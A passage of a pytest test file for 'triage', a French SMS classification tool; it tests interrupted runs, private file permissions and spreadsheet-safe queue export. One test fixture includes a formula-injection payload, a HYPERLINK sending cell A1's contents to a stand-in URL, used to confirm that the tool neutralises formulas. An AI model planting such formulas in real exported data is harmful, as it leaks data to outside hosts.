            fill_queue(queue, "TA")
            time.sleep(0.01)  # a rewrite would show in the modification time
            inputs = [queue, classified]
            args = ["queue", "apply", queue, classified, "-o", out / "final.csv"]
        else:
            inputs = [classified]
            args = ["queue", "export", classified, "-o", queue]
    else:
        inputs = [labelled]
        args = command_line(command, labelled, out)
    before = [snapshot(p) for p in inputs]
    succeeded(cli(*args))
    assert [snapshot(p) for p in inputs] == before


# --------------------------------------------------------------------- interrupted runs


class Interrupt:
    """Replaces a function: works `calls` times, then raises KeyboardInterrupt (Ctrl-C)."""

    def __init__(self, original, calls: int):
        self.original, self.calls = original, calls

    def __get__(self, instance, owner):  # used as a method
        return self if instance is None else lambda *a, **k: self(instance, *a, **k)

    def __call__(self, *args, **kwargs):
        if self.calls <= 0:
            raise KeyboardInterrupt
        self.calls -= 1
        return self.original(*args, **kwargs)


def interrupt(monkeypatch, command: str) -> None:
    """Make `command` stop half way, after part of its output was written."""
    from triage import io as triage_io
    from triage import queue as queue_module
    from triage.seekhide import SeekAndHide

    if command in ("seek", "classify"):
        pairs = triage_io.MessageTable.pairs
        monkeypatch.setattr(triage_io.MessageTable, "pairs", lambda self, size=0: pairs(self, 5))
    if command == "seek":
        monkeypatch.setattr(SeekAndHide, "analyse", Interrupt(SeekAndHide.analyse, 1))
    elif command == "classify":
        monkeypatch.setattr(classifier.Classifier, "columns", Interrupt(classifier.Classifier.columns, 1))
    elif command == "train":  # stopped while the model file is being written
        write_zip = model_module._write_zip

        def write_half(*args, **options):
            with monkeypatch.context() as patch:
                patch.setattr(zipfile.ZipFile, "writestr", Interrupt(zipfile.ZipFile.writestr, 1))
                write_zip(*args, **options)

        monkeypatch.setattr(model_module, "_write_zip", write_half)
    elif command == "queue export":
        monkeypatch.setattr(queue_module, "_queue_record", Interrupt(queue_module._queue_record, 2))


@pytest.mark.parametrize("command", ["seek", "classify", "train", "queue export"])
@pytest.mark.parametrize("existing", [False, True], ids=["new", "forced"])
def test_an_interrupted_run_leaves_no_half_written_output(cli, labelled, request, monkeypatch, out, command, existing):
    if command == "queue export":
        classified = request.getfixturevalue("classified")
        args, target = ["queue", "export", classified, "-o", out / "queue.csv"], out / "queue.csv"
    else:
        args, target = command_line(command, labelled, out), output_of(command, out)
    if existing:
        out.mkdir()
        target.write_bytes(b"the previous run\n")
        args.append("--force")
    interrupt(monkeypatch, command)
    result = cli(*args)
    assert result.exit_code == 130, result.output  # click's exit code for Ctrl-C
    assert isinstance(result.exception, SystemExit)
    if existing:  # the previous output is still whole
        assert target.read_bytes() == b"the previous run\n"
        assert [p.name for p in out.iterdir()] == [target.name]
    else:
        nothing_written(out)


@pytest.fixture(scope="module")
def big_corpus(tmp_path_factory) -> Path:
    import random

    rng = random.Random(8)
    words = ORDINARY + ["demain", "ce soir", "au ciné", "chez moi", "à la gare", "on dit 8h ?"]
    path = tmp_path_factory.mktemp("big") / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        for i in range(200_000):
            writer.writerow([i, f"{rng.choice(words)} {rng.choice(NAMES)} {rng.choice(words)} {i % 97}"])
    return path


@pytest.mark.parametrize("signal_number", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
def test_a_killed_classify_leaves_no_output_nor_temporary_file(big_corpus, tmp_path, signal_number):
    folder = tmp_path / "run"
    folder.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-m", "triage", "classify", str(big_corpus), "-o", "out.csv"],
        cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    try:
        # Wait until the output is being written (its temporary file exists), then stop it.
        deadline = time.monotonic() + 60
        while not any(folder.glob(".out.csv.*.tmp")):
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "classify never started writing"
            time.sleep(0.05)
        time.sleep(0.3)
        process.send_signal(signal_number)
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode != 0, "the run finished before the signal: make the corpus bigger"
    assert b"Traceback" not in stderr, stderr.decode()
    assert sorted(p.name for p in folder.iterdir()) == []


# ------------------------------------------------------------------- private files


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_files_holding_messages_are_private(cli, labelled, tmp_path):
    old = os.umask(0o022)  # the usual umask: new files would be readable by everyone
    try:
        out = tmp_path / "out"
        out.mkdir()
        forced = out / "classified.csv"
        forced.write_text("old\n")
        forced.chmod(0o644)
        succeeded(cli("seek", labelled, "-o", out / "seek.csv"))
        succeeded(cli("classify", labelled, "-o", forced, "--force", "--expert-budget", "1", "--queue", out / "q.html"))
        for name in ("queue.csv", "queue.jsonl"):
            succeeded(cli("queue", "export", forced, "-o", out / name))
        fill_queue(out / "queue.csv", "NTA")
        succeeded(cli("queue", "apply", out / "queue.csv", forced, "-o", out / "final.jsonl"))
    finally:
        os.umask(old)
    for name in ("seek.csv", "classified.csv", "q.html", "queue.csv", "queue.jsonl", "final.jsonl"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name


# ------------------------------------------------------------------ spreadsheet safety

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?leak="&A1;"clic ici")',
    "+33 6 12 34 56 78 rappelle",
    "-1 point pour toi",
    "@SOMME(A1:A9) lol",
    "=1+1",
]


def test_exported_queues_are_safe_in_a_spreadsheet_and_apply_restores_the_text(cli, tmp_path):
    source = write_table(tmp_path / "sms.csv", [[f"={i}" if i == 0 else str(i), t] for i, t in enumerate(FORMULAS)],
                         ["id", "text"])
    classified = tmp_path / "classified.csv"
    succeeded(cli("classify", source, "-o", classified, "--expert-budget", "1"))
    queue = tmp_path / "queue.csv"
    succeeded(cli("queue", "export", classified, "-o", queue))
    raw = queue.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so that Excel reads the accents
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
    assert len(read_rows(queue)) == len(FORMULAS)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert sum(c.startswith("'=HYPERLINK(") for c in cells) == 1

    fill_queue(queue, "NTA")
    final = tmp_path / "final.csv"
    succeeded(cli("queue", "apply", queue, classified, "-o", final))
    released = read_rows(final, encoding="utf-8")
    assert [r["final_text"] for r in released] == FORMULAS  # the data file itself is not altered
    assert released[0]["id"] == "=0"


# ----------------------------------------------------------------------------- --debug


def triage_process(*args, cwd=None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "triage", *map(str, args)], capture_output=True, text=True, cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=120,
    )


def test_debug_shows_the_traceback_and_without_it_one_line(tmp_path):
    missing = tmp_path / "missing.csv"
    plain = triage_process("classify", missing)
    assert plain.returncode == 1
    assert plain.stderr == f"Error: {missing}: no such file\n"
    debug = triage_process("--debug", "classify", missing)
    assert debug.returncode == 1
    assert "Traceback (most recent call last)" in debug.stderr
    assert f"triage.errors.InputError: {missing}: no such file" in debug.stderr


# ----------------------------------------------------------------------------- round two


@pytest.mark.parametrize("spans, fragment", [
    ([[9, 99, "PRE"]], "outside the message"),
    ([[-1, 4, "PRE"]], "outside the message"),
    ([[9, 9, "PRE"]], "outside the message"),
    ([[9, 13, "PRE"], [11, 15, "NOM"]], "overlaps another span"),
])
def test_train_refuses_impossible_gold_spans(cli, tmp_path, spans, fragment):
    rows = labelled_rows()
    rows[0][3] = json.dumps(spans)
    source = write_table(tmp_path / "gold.csv", rows)
    failed(cli("train", source, "-o", tmp_path / "m.triage"), 1, "line 2: span", fragment)
    assert not (tmp_path / "m.triage").exists()


def test_more_folds_than_messages_is_one_line(cli, labelled, tmp_path):
    failed(cli("evaluate", labelled, "--folds", 1000, "--out-dir", tmp_path / "ev"), 1,
           "1000-fold cross-validation needs at least 1000 messages of each class")
